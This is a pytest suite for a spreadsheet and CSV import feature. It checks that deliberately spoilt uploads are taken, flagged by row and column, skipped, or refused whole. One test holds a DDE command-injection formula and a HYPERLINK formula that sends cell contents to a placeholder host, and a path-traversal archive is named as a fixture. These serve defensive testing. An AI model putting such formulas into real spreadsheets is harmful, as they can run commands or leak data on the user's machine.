"""Every upload that was spoilt on purpose is answered as its list says: taken, told, or refused whole."""

import csv
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest

from kezhi.base.importing import actions, said
from kezhi.base.models import ImportBatch, ImportRow
from kezhi.engine.errors import Problems
from tests.kezhi.base.importing.ledger import LEDGER, amount, check, send, take
from tests.shared import require, shared_data

pytestmark = pytest.mark.django_db
FOLDER = "bad_uploads"
PACKED = ("39_path_traversal.zip", "40_gbk_names.zip")
"""No tables: packs of attachments."""


def listed(name: str) -> list[dict[str, str]]:
    path = shared_data() / FOLDER / name
    if not path.exists():
        return []
    with path.open(encoding="utf8", newline="") as file:
        return list(csv.DictReader(file))


FILES = {row["file"]: row for row in listed("files.csv") if row["file"] not in PACKED}
ERRORS = listed("expected_errors.csv")
GOOD = {
    "07_formulas_dates.xlsx": 15,
    "16_wrong_units.csv": 7,
    "36_bad_references.csv": 3,
    "18_shifted_columns.csv": 11,
    "37_invisible_chars.csv": 7,
}
"""Where the list leaves it to the choice that was made."""
SUMS = {
    "00_good.csv": "9061.25",
    "06_merged_header.xlsx": "814.43",
    "10_three_bad_in_10000.csv": "447393.91",
    "17_wrong_unit_whole_column.csv": "1081.36",
}
"""万元."""
TITLES = {str(column.title): column.key for column in LEDGER.columns} | {"资助金额（万元）": "amount", "(row)": ""}


def upload(name: str) -> ImportBatch:
    return send(require(f"{FOLDER}/{name}").read_bytes(), name)


def is_refused_whole(row: dict[str, str]) -> bool:
    renamed = ("19_xls_renamed.xlsx", "20_html_renamed.xls", "21_xlsx_renamed.csv")
    return row["verdict"].startswith("refuse") or row["file"] in renamed or row["file"].startswith("28")


@pytest.mark.parametrize("name", [name for name, row in FILES.items() if is_refused_whole(row)])
def test_what_is_refused_whole_leaves_nothing_and_says_why(name: str) -> None:
    with pytest.raises(Problems) as found:
        check(upload(name))
    assert all("。" in problem.render() for problem in found.value.problems)
    assert not ImportRow.objects.exists()


@pytest.mark.parametrize("name", [name for name, row in FILES.items() if not is_refused_whole(row)])
def test_what_is_taken_is_counted(name: str) -> None:
    batch = check(upload(name))
    good = int(FILES[name]["rows_ok"] or GOOD[name])
    assert batch.waiting == good
    done = take(batch)
    assert (done.state, done.created) == ("done", good)
    if name in SUMS:
        assert amount() == Decimal(SUMS[name]) * 10_000


REJECTED = [row for row in ERRORS if row["verdict"] == "reject" and not is_refused_whole(FILES.get(row["file"], row))]


@pytest.mark.parametrize("row", REJECTED, ids=lambda row: f"{row['file'][:2]}-{row['row']}-{row['column']}")
def test_a_planted_fault_is_named_at_its_row_and_column(row: dict[str, str], checked: Callable[[str], Any]) -> None:
    found = checked(row["file"]).get(int(row["row"]), [])
    column = TITLES[row["column"]]
    repeats = row["file"].startswith("11_")
    assert column in [one["column"] for one in found] or (repeats and found)


@pytest.fixture
def checked() -> Callable[[str], dict[int, list[dict[str, Any]]]]:
    """By row, the complaints about a file."""

    def of(name: str) -> dict[int, list[dict[str, Any]]]:
        batch = check(upload(name))
        rows = batch.rows.filter(state=ImportRow.State.FAULTY)
        assert {row.number for row in rows} <= {int(one["row"]) for one in ERRORS if one["file"] == name}
        return {row.number: row.complaints for row in rows}

    return of


SKIPPED = [row for row in ERRORS if row["verdict"] == "skip and say"]


@pytest.mark.parametrize("row", SKIPPED, ids=lambda row: f"{row['file'][:2]}-{row['row']}")
def test_what_is_no_data_is_passed_over_and_said(row: dict[str, str]) -> None:
    found = check(upload(row["file"])).rows.get(number=row["row"])
    assert (found.state, bool(found.notes)) == (ImportRow.State.SKIPPED, True)


def test_no_sum_of_a_total_row_is_ever_counted() -> None:
    take(check(upload("06_merged_header.xlsx")))
    assert amount() == Decimal("8144300")


def test_all_five_faults_of_a_header_are_in_one_answer() -> None:
    told = " ".join(problem.render() for problem in actions.header_faults(upload("27_header_faults.csv")))
    missing = [f"缺少必填的列“{column}”" for column in ("项目类别", "学科代码")]
    for words in (*missing, "“项目名称”出现在第 2 列和第 3 列", "是不是“开始日期”", "“备注”"):
        assert words in told


def test_three_bad_rows_in_ten_thousand_are_mended_and_double_nothing() -> None:
    take(check(upload("10_three_bad_in_10000.csv")))
    content = require(f"{FOLDER}/10_three_bad_in_10000.csv").read_text("utf8")
    lines = content.splitlines(keepends=True)
    lines[1234] = lines[1234].replace("二十", "20")
    again = check(send("".join(lines), "改了一行.csv"))
    assert (again.waiting, again.faulty) == (9998, 2)
    done = take(again)
    assert (done.created, done.updated, done.unchanged) == (1, 0, 9997)


def test_hostile_text_is_kept_as_text() -> None:
    batch = check(upload("15_formula_injection.csv"))
    assert [row.raw[1] for row in batch.rows.order_by("number")][:2] == [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://example.invalid/?x="&A2,"点此查看")',
    ]


def test_what_is_hidden_in_a_workbook_is_said() -> None:
    batch = upload("32_hidden_and_second_sheet.xlsx")
    assert batch.sheet == "数据"
    assert [said.words(note) for note in batch.notes][:3] == [
        "有 2 个隐藏的行，也在导入之列。",
        "有 1 个隐藏的列，也在导入之列。",
        "隐藏的工作表不导入：往年。",
    ]


def test_days_of_the_1904_system_are_right() -> None:
    batch = check(upload("09_date1904.xlsx"))
    assert batch.rows.get(number=2).raw[6:8] == [{"day": "2024-01-01"}, {"day": "2026-12-31"}]
